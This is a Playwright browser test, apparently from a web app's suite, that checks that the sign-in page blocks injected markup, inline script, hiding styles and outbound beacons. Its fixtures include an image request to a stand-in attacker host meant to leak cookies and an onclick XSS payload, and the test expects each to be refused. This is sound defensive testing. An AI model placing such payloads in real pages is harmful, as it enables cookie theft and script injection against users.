import { expect, test } from "../support/desk";

/** Text that reached a page as markup, by a fault of ours or of a library, must not come to life there. */
test("what somebody manages to write into a page neither runs, nor shows, nor leaves", async ({
  page,
  desk,
  tolerate,
}) => {
  tolerate(/Content Security Policy|requires 'Trusted/u);
  await page.goto(`${desk.url}/sign-in`);
  await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
  const written = await page.evaluate(async () => {
    const script = document.createElement("script");
    const tag = document.createElement("style");
    tag.textContent = "body { display: none }";
    const image = document.createElement("img");
    const failed = new Promise((resolve) => image.addEventListener("error", () => resolve("refused")));
    image.src = "https://evil.example/?cookies";
    document.body.append(tag, image);
    const attempt = (work: () => unknown) => {
      try {
        work();
        return "done";
      } catch (error) {
        return error instanceof Error ? error.name : "refused";
      }
    };
    return {
      markup: attempt(() => (document.body.innerHTML = "<b onclick=alert(1)>gone</b>")),
      script: attempt(() => (script.textContent = "document.title = 'gone'")),
      display: getComputedStyle(document.body).display,
      image: await failed,
    };
  });
  expect(written).toMatchObject({
    markup: "TypeError",
    script: "TypeError",
    image: "refused",
  });
  expect(written.display).not.toBe("none");
  await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
  await expect(page).not.toHaveTitle("gone");
});
